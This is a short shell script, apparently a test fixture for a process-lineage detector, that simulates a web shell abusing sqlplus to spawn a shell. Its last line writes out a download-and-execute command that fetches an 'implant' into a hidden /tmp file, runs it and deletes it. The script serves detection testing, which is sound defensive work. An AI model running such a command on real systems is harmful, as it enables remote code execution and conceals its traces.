#!/bin/sh
# malicious: sqlplus HOST command abused from a web shell lineage: httpd -> sh -> sqlplus -> sh -c downloads a payload
. "$(dirname "$0")/../../lib.sh"
$B/httpd "$B/sqlplus 'curl -s -o /tmp/.s $URL/implant; chmod +x /tmp/.s; /tmp/.s; rm -f /tmp/.s'"
